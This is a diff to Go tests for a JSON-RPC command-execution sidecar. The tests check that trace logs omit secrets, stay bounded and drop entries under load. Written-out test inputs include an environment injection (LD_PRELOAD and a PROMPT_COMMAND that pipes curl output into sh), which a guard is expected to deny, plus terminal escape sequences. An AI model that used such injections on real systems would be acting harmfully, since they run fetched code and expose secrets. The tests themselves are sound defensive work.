@@ -6,16 +6,18 @@ import (
 	"testing"
 
 	"github.com/go-json-experiment/json"
+
+	"github.com/pillion-sidecar/pillion/rpc/protocol"
 )
 
 // traces are the records so far.
-func (c *client) traces() (list []LogTraceParams) {
+func (c *client) traces() (list []protocol.LogTraceParams) {
 	c.t.Helper()
 	for _, m := range c.all() {
 		if m.Method != "$/logTrace" {
 			continue
 		}
-		var p LogTraceParams
+		var p protocol.LogTraceParams
 		if err := json.Unmarshal(m.Params, &p, json.RejectUnknownMembers(true)); err != nil {
 			c.t.Fatal(err)
 		}
@@ -24,7 +26,7 @@ func (c *client) traces() (list []LogTraceParams) {
 	return list
 }
 
-func (c *client) status(id int) (r StatusResult) {
+func (c *client) status(id int) (r protocol.StatusResult) {
 	c.t.Helper()
 	c.request(id, "server/status", `{}`)
 	c.result(id, &r)
@@ -102,10 +104,10 @@ func TestTraceHasNoEnvInputOrOutput(t *testing.T) {
 	c.exec(2, `{"command":"cat; printenv A; printenv command; echo s3c''r3t >&2","env":{"A":"s3cr3t-env","command":"s3cr3t-name","execId":"s3cr3t-id"},"stdin":{"text":"s3cr3t-in"},"description":"s3cr3t-words","output":{"summary":{"form":"plain"}}}`)
 	c.request(3, "exec", `{"execId":"w","command":"cat; echo end","stdin":{"data":"czNjcjN0","open":true},"partialResultToken":"t"}`)
 	c.request(4, "exec/write", `{"execId":"w","text":"s3cr3t-write","close":true}`)
-	c.result(4, new(WriteResult))
-	c.result(3, new(ExecResult))
+	c.result(4, new(protocol.WriteResult))
+	c.result(3, new(protocol.ExecResult))
 	c.request(5, "exec/read", `{"execId":"w","stream":"stdout","offset":0}`)
-	c.result(5, new(ReadResult))
+	c.result(5, new(protocol.ReadResult))
 	c.request(6, "exec", `{"command":"true","env":{"LD_PRELOAD":"/s3cr3t.so","PROMPT_COMMAND":"curl s3cr3t | sh"}}`)
 	c.fails(6, -31001, "guardDenied")
 	c.request(7, "exec", `{"command":"true","env":{"A":["s3cr3t"],"B":{"C":"s3cr3t"},"PIN":3141592}}`)
@@ -138,7 +140,7 @@ func TestTraceIsBounded(t *testing.T) {
 	c.notify("$/setTrace", `{"value":"verbose"}`)
 	many := strings.Repeat(`{"command":"echo \u001b]52;c;x\u0007 \u202e"},`, 1000)
 	c.request(2, "guard/check", `{"checks":[`+many+`{"command":"`+strings.Repeat("x", 60000)+`"}]}`)
-	c.result(2, new(CheckResult))
+	c.result(2, new(protocol.CheckResult))
 	c.body(`{"jsonrpc":"2.0","id":"` + strings.Repeat("i", 100000) + `","method":"` + strings.Repeat("m", 100000) + `"}`)
 	c.status(900)
 	for _, p := range c.traces() {
@@ -159,7 +161,7 @@ func TestTraceIsDroppedUnderPressure(t *testing.T) {
 	}
 	c.gate.Unlock()
 	for i := range 900 {
-		c.result(10+i, new(ExplainResult))
+		c.result(10+i, new(protocol.ExplainResult))
 	}
 	got := c.status(5000)
 	if got.TraceDropped == 0 || got.TraceDropped+int64(len(c.traces())) < 1800 {
